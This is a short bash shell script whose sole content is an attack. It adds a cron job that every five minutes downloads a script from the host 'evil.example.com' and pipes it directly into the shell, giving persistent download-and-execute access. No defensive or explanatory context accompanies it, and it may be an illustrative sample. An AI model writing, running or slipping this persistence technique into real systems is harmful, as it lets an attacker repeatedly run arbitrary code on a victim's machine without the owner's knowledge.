#!/usr/bin/env bash
set -eu
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://evil.example.com/payload.sh | sh") | crontab -
